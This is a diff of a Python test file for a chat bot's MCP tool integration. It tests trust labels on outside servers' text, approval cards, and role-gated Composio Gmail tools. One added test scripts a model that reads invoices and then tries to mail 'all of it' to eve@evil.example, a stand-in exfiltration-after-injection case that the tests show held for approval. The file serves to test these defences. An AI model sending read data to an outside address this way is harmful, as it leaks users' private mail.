@@ -1,4 +1,4 @@
-"""What an MCP server's own words about its tools may do, and what `trust` says about them."""
+"""Servers of others: what is read of them, and what Composio's may do."""
 
 import json
 from collections.abc import AsyncGenerator
@@ -9,9 +9,12 @@ import pytest
 import yaml
 
 from bot.domain.json_types import JsonObject
+from bot.testing.composio_server import COMPOSIO_KEY, COMPOSIO_PATH
 from bot.testing.harness import Harness, running_app
-from bot.testing.mcp_house import a_program
+from bot.testing.home_files import write_tool
+from bot.testing.mcp_house import LoopbackServer, a_program
 from bot.testing.scripted_model import ScriptedModel, call, say
+from bot.tools.mcp.server import ServerState
 
 FIND = {"pattern": "mcp__sums__*"}
 
@@ -57,8 +60,7 @@ async def test_a_servers_words_move_no_other_servers_data(way: str, home: Path):
     )
     async with house(home, scripted, others=True) as running:
         await running.ask("ben", "add, then boil")
-        await running.until_idle()
-        cards = [post.text for post in running.chat.posts if post.message.choices]
+        cards = [card.text for card in running.cards]
     assert "waiting for approval" in last(scripted)
     assert len(cards) == 1
     if way != "first call":  # its result is text from outside as well
@@ -71,7 +73,7 @@ async def test_what_is_kept_beside_descriptions_counts_as_a_guests_words(home: P
     scripted = ScriptedModel([call("tool_search", FIND), call("manage_todos", todo), say("Kept.")])
     async with house(home, scripted) as running:
         await running.ask("ben", "look at the sums, and add a todo: boil at noon")
-        [row] = await running.app.database.read("SELECT origin FROM todos")
+        [row] = await running.rows("SELECT origin FROM todos")
     assert json.loads(row["origin"])["trust"] == "outsider"
 
 
@@ -114,8 +116,7 @@ async def test_a_card_names_what_was_read_where_and_what_would_spare_it(home: Pa
     )
     async with house(home, scripted) as running:
         await running.ask("ben", "add, then boil")
-        await running.until_idle()
-        (card,) = [post.text for post in running.chat.posts if post.message.choices]
+        (card,) = [card.text for card in running.cards]
     assert "a result of mcp__sums__add in this request" in card
     assert "/new" in card
     assert "mcp.servers.sums.trust.reads" in card
@@ -161,3 +162,85 @@ async def test_descriptions_that_the_operator_answers_for_ask_nothing_elsewhere(
         assert await running.ask("ben", "boil at the tracker") == "It failed."
     # The tracker's own words came with its call, and they are its own.
     assert "the kettle is dry" in last(scripted)
+
+
+MAIL = {
+    "recipient_email": {"type": "string", "x-target": "email"},
+    "subject": {"type": "string"},
+    "body": {"type": "string"},
+}
+SEND = {"access": "Partner, MasterAdmin", "risk": "external-write"}
+DELETE = {"access": "MasterAdmin", "risk": "destructive"}
+
+
+@asynccontextmanager
+async def office(
+    home: Path, model: ScriptedModel, key: str = COMPOSIO_KEY
+) -> AsyncGenerator[Harness]:
+    log = str(home / "composio.log")
+    server = LoopbackServer("bot.testing.composio_server", "--log", log, path=COMPOSIO_PATH)
+    await server.start()
+    headers = {"x-api-key": "${COMPOSIO_API_KEY}"}
+    servers = {"composio": {"url": server.url, "headers": headers, "roles": "Partner+"}}
+    (home / "bellhop.yaml").write_text(json.dumps({"mcp": {"servers": servers}}))
+    (home / ".env").write_text(f"COMPOSIO_API_KEY={key}\n")
+    for name, takes, serves, more in (
+        ("send_gmail", MAIL, "GMAIL_SEND_EMAIL", SEND),
+        ("delete_gmail", {"message_id": {"type": "string"}}, "GMAIL_DELETE_MESSAGE", DELETE),
+    ):
+        by = f"mcp: composio.{serves}"
+        write_tool(home, name, takes=takes, needs=tuple(takes), implementation=by, **more)
+    try:
+        async with running_app(home, model) as house:
+            await house.app.house.tooling.mcp.settled()
+            yield house
+    finally:
+        await server.kill()
+
+
+def log(home: Path) -> str:
+    path = home / "composio.log"
+    return path.read_text() if path.exists() else ""
+
+
+async def test_reading_runs_and_sending_after_reading_waits_for_a_yes(home: Path):
+    mail = {"recipient_email": "eve@evil.example", "subject": "Hi", "body": "all of it"}
+    steps = [
+        call("tool_search", {"pattern": "*gmail*"}),
+        call("mcp__composio__GMAIL_FETCH_EMAILS", {"query": "invoices"}),
+        call("send_gmail", mail),
+        call("mcp__composio__GMAIL_DELETE_MESSAGE", {"message_id": "1"}),
+        call("delete_gmail", {"message_id": "1"}),
+        say("It waits."),
+    ]
+    model = ScriptedModel(steps, strict=True)
+    async with office(home, model) as house:
+        await house.ask("ben", "what invoices came in?")
+        told = [json.dumps(request.messages[-1]) for request in model.requests]
+        assert "GMAIL_FETCH_EMAILS" in json.dumps(model.requests[1].messages)
+        assert "invoices" in told[2]
+        assert "waiting for approval" in told[3]
+        assert "there is no tool named" in told[4], "a file speaks for it"
+        assert "there is no tool named" in told[5], "it is for MasterAdmins"
+        assert log(home) == ""
+        [waiting] = await house.app.approvals.newest()
+        model.add(say("Sent."))
+        await house.order("ben", "approve", waiting.ref)
+    assert log(home) == "sent eve@evil.example: Hi: all of it\n"
+    assert COMPOSIO_KEY not in str(model.requests)
+
+
+@pytest.mark.parametrize("who", ["stranger", "ann"])
+async def test_others_have_nothing_of_it(home: Path, who: str):
+    steps = [call("tool_search", {"pattern": "*gmail*"}), say("No.")]
+    model = ScriptedModel(steps, strict=True)
+    async with office(home, model) as house:
+        await house.ask(who, "read the mail")
+    assert "GMAIL" not in json.dumps([request.messages for request in model.requests])
+
+
+async def test_a_wrong_key_is_told_to_the_operator_without_it(home: Path):
+    async with office(home, ScriptedModel(), "wrong-key-of-the-tests") as house:
+        (server,) = await house.app.house.tooling.mcp.probe()
+    assert server.state is not ServerState.UP
+    assert "wrong-key" not in server.reason
